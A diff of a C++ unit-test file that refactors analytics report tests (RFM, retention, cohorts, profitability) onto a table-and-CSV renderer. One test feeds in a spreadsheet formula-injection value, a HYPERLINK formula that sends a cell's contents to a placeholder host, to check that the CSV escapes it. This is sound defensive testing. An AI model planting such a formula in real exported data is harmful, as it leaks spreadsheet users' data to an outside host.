@@ -1,12 +1,11 @@
-#include "analytics/report_csv.h"
+#include "analytics/report_tables.h"
 
 #include <gtest/gtest.h>
 
 #include <cmath>
-#include <sstream>
 
 #include "analytics/analytics_test_support.h"
-#include "analytics/csv_row_buffer.h"
+#include "core/report_table_csv.h"
 
 namespace vafa::analytics {
 namespace {
@@ -31,19 +30,22 @@ TransactionLog TwoCustomers() {
   });
 }
 
-TEST(WriteRfmCsv, CustomerKeysAreFormulaProtectedTextCells) {
+TEST(RfmTable, CustomerKeysAreFormulaProtectedTextCells) {
   RfmScores rfm;
   rfm.recency = {5, 1};
   rfm.frequency = {5, 1};
   rfm.monetary = {5, 1};
   rfm.segment = {RfmSegment::kChampions, RfmSegment::kLost};
-  std::ostringstream out;
-  WriteRfmCsv(out, {"=HYPERLINK(\"http://x/?\"&E2,\"open\")", "-12.50"}, rfm);
-  EXPECT_NE(out.str().find(
-                "\n\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\",5,"),
-            std::string::npos)
-      << out.str();
-  EXPECT_NE(out.str().find("\n-12.50,1,"), std::string::npos) << out.str();
+  const ReportTable table =
+      RfmTable({"=HYPERLINK(\"http://x/?\"&E2,\"open\")", "-12.50"}, rfm);
+  // The table has the keys as they are; the CSV protects them.
+  EXPECT_EQ(table.TextAt(0, 0), "=HYPERLINK(\"http://x/?\"&E2,\"open\")");
+  const std::string csv = RenderReportCsv(table);
+  EXPECT_NE(
+      csv.find("\n\"'=HYPERLINK(\"\"http://x/?\"\"&E2,\"\"open\"\")\",5,"),
+      std::string::npos)
+      << csv;
+  EXPECT_NE(csv.find("\n-12.50,1,"), std::string::npos) << csv;
 }
 
 TEST(FormatShare, FixedSixDecimalsAndEmptyForNaN) {
@@ -51,12 +53,16 @@ TEST(FormatShare, FixedSixDecimalsAndEmptyForNaN) {
   EXPECT_EQ(FormatShare(std::nan("")), "");
 }
 
-TEST(WriteCustomerSummaryCsv, HandCheckedRows) {
+TEST(CustomerSummaryTable, HandCheckedRows) {
   TransactionLog log = TwoCustomers();
-  std::ostringstream out;
-  WriteCustomerSummaryCsv(out, log.customer_keys,
-                          SummarizeCustomers(log, 19763));
-  EXPECT_EQ(out.str(),
+  const ReportTable table = CustomerSummaryTable(
+      log.customer_keys, SummarizeCustomers(log, 19763), "IRR");
+  EXPECT_EQ(table.currency(), "IRR");
+  EXPECT_EQ(table.column(1).type, ColumnType::kDate);
+  EXPECT_EQ(table.column(10).type, ColumnType::kMoney);
+  // b's cost is unknown: empty cells, not zeros.
+  EXPECT_TRUE(table.IsEmpty(13, 1));
+  EXPECT_EQ(RenderReportCsv(table),
             "customer,first_purchase,last_purchase,orders,refunds,"
             "purchase_days,repeat_purchases,recency_days,tenure_days,"
             "purchase_span_days,revenue,refund_amount,mean_order_value,"
@@ -68,11 +74,11 @@ TEST(WriteCustomerSummaryCsv, HandCheckedRows) {
             "0.000000\n");
 }
 
-TEST(WriteRetentionKpisCsv, HandCheckedRowsWithEmptyCellForUndefinedRate) {
-  std::ostringstream out;
-  WriteRetentionKpisCsv(
-      out, ComputeRetentionKpis(TwoCustomers(), 19763, Calendar::kGregorian));
-  EXPECT_EQ(out.str(),
+TEST(RetentionKpisTable, HandCheckedRowsWithEmptyCellForUndefinedRate) {
+  const ReportTable table = RetentionKpisTable(
+      ComputeRetentionKpis(TwoCustomers(), 19763, Calendar::kGregorian), "IRR");
+  EXPECT_TRUE(table.IsEmpty(6, 0));  // no retention in the first month
+  EXPECT_EQ(RenderReportCsv(table),
             "month,active_customers,new_customers,retained_customers,"
             "repeat_customers,acquisition_rate,retention_rate,churn_rate,"
             "repeat_purchase_rate,purchase_days,purchase_frequency,orders,"
@@ -83,31 +89,29 @@ TEST(WriteRetentionKpisCsv, HandCheckedRowsWithEmptyCellForUndefinedRate) {
             "2,80,0,80,40.000000\n");
 }
 
-TEST(WriteRfmCsv, SameInputGivesTheSameBytes) {
+TEST(RfmTable, SameInputGivesTheSameBytes) {
   TransactionLog log = TwoCustomers();
-  std::ostringstream first, second;
-  WriteRfmCsv(first, log.customer_keys,
-              ScoreRfm(SummarizeCustomers(log, 19763)));
-  WriteRfmCsv(second, log.customer_keys,
-              ScoreRfm(SummarizeCustomers(log, 19763, 2)));
-  EXPECT_EQ(first.str(), second.str());
+  const std::string first = RenderReportCsv(
+      RfmTable(log.customer_keys, ScoreRfm(SummarizeCustomers(log, 19763))));
+  const std::string second = RenderReportCsv(
+      RfmTable(log.customer_keys, ScoreRfm(SummarizeCustomers(log, 19763, 2))));
+  EXPECT_EQ(first, second);
   // Same recency; a has more purchase days and more revenue.
-  EXPECT_EQ(first.str(),
+  EXPECT_EQ(first,
             "customer,recency_score,frequency_score,monetary_score,rfm,"
             "segment\n"
             "\"a,1\",1,3,3,133,At risk\n"
             "b,1,1,1,111,Lost\n");
 }
 
-TEST(WriteMatrixCsv, FourGroupsInFixedOrder) {
+TEST(MatrixTable, FourGroupsInFixedOrder) {
   CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
   auto profitability = AnalyzeProfitability(summary, {}, {});
   ASSERT_TRUE(profitability.ok());
-  std::ostringstream out;
-  WriteMatrixCsv(out, *profitability);
+  const std::string out = RenderReportCsv(MatrixTable(*profitability, "IRR"));
   // a: 150 - 90 = 60, repeat and recent, first order not discounted.
   // b: 30 (cost unknown), one purchase.
-  EXPECT_EQ(out.str(),
+  EXPECT_EQ(out,
             "group,customers,customer_share,profit,profit_share\n"
             "easy_acquire_easy_retain,1,0.500000,60,0.666667\n"
             "easy_acquire_hard_retain,1,0.500000,30,0.333333\n"
@@ -115,15 +119,15 @@ TEST(WriteMatrixCsv, FourGroupsInFixedOrder) {
             "hard_acquire_hard_retain,0,0.000000,0,0.000000\n");
 }
 
-TEST(WriteSegmentsCsv, SumsPerSegmentBestFirst) {
+TEST(SegmentsTable, SumsPerSegmentBestFirst) {
   CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
   auto profitability = AnalyzeProfitability(summary, {}, {});
   ASSERT_TRUE(profitability.ok());
-  std::ostringstream out;
-  WriteSegmentsCsv(out, summary, ScoreRfm(summary), *profitability);
+  const std::string out = RenderReportCsv(
+      SegmentsTable(summary, ScoreRfm(summary), *profitability, "IRR"));
   // a is At risk (150 revenue, 60 profit), b Lost (30, 30); every segment
   // has its row.
-  EXPECT_EQ(out.str(),
+  EXPECT_EQ(out,
             "segment,customers,revenue,profit\n"
             "Champions,0,0,0\n"
             "Loyal,0,0,0\n"
@@ -138,52 +142,42 @@ TEST(WriteSegmentsCsv, SumsPerSegmentBestFirst) {
             "Lost,1,30,30\n");
 }
 
-TEST(WriteAbcCsv, SumsPerClass) {
+TEST(AbcTable, SumsPerClass) {
   CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
   auto profitability = AnalyzeProfitability(summary, {}, {});
   ASSERT_TRUE(profitability.ok());
-  std::ostringstream out;
-  WriteAbcCsv(out, summary, AnalyzeKeyCustomers(summary), *profitability);
+  const std::string out = RenderReportCsv(
+      AbcTable(summary, AnalyzeKeyCustomers(summary), *profitability, "IRR"));
   // a alone brings 150 of 180 (83%): class A; b the rest.
-  EXPECT_EQ(out.str(),
+  EXPECT_EQ(out,
             "class,customers,revenue,profit\n"
             "A,1,150,60\n"
             "B,1,30,30\n"
             "C,0,0,0\n");
 }
 
-TEST(CsvRowBufferTest, WritesWhatTheStreamAndPrintfWrite) {
-  const std::vector<double> shares = {
-      0,       -0.0,      0.5,  1.0 / 3,  2.0 / 3, 0.0000005, 0.0000015, 1e-7,
-      123.456, 1234567.5, 1e15, -2.25e11, 1e300,   -1e-300,   INFINITY};
-  const std::vector<int64_t> integers = {
-      0, -1, 7, 2147483647, -2147483648, INT64_MAX, INT64_MIN};
-  const std::vector<DayNumber> days = {0, 19727, -719162, 2932896, -1, kNoDay};
-  std::ostringstream expected;
-  std::ostringstream written;
-  {
-    CsvRowBuffer row(written);
-    for (double share : shares) {
-      expected << FormatShare(share) << ',';
-      row.Share(share);
-      row << ',';
-    }
-    row.Share(NAN);
-    row.EndRow();
-    expected << '\n';
-    for (int64_t integer : integers) {
-      expected << integer << ';' << static_cast<int32_t>(integer) << ';';
-      row << integer << ';' << static_cast<int32_t>(integer) << ';';
-    }
-    for (DayNumber day : days) {
-      expected << (day == kNoDay ? "" : FormatGregorian(day)) << ' ';
-      row.Day(day);
-      row << ' ';
-    }
-    row.EndRow();
-    expected << '\n';
-  }
-  EXPECT_EQ(written.str(), expected.str());
+TEST(ParetoTable, SharesAsTheWriterPrintedThemAndAnEmptyMargin) {
+  CustomerSummary summary = SummarizeCustomers(TwoCustomers(), 19763);
+  KeyCustomers key = AnalyzeKeyCustomers(summary);
+  key.margin.customers = 0;  // no margin known: the margin column is empty
+  const ReportTable table = ParetoTable(key);
+  ASSERT_EQ(table.row_count(), 101u);
+  const std::string csv = RenderReportCsv(table);
+  // a alone (50% of customers) brings 150 of 180.
+  EXPECT_NE(csv.find("\n50,0.833333,\n"), std::string::npos) << csv;
+  EXPECT_NE(csv.find("\n100,1.000000,\n"), std::string::npos) << csv;
+  EXPECT_EQ(table.NumberAt(1, 50), 0.833333);
+}
+
+TEST(CohortsTable, LongFormHandChecked) {
+  const ReportTable table =
+      CohortsTable(ComputeCohorts(TwoCustomers(), 19763, Calendar::kGregorian));
+  // a joined in January and came back in February; b joined in February.
+  EXPECT_EQ(RenderReportCsv(table),
+            "cohort,size,months_since,active,retention\n"
+            "2024-01,1,0,1,1.000000\n"
+            "2024-01,1,1,1,1.000000\n"
+            "2024-02,1,0,1,1.000000\n");
 }
 
 }  // namespace
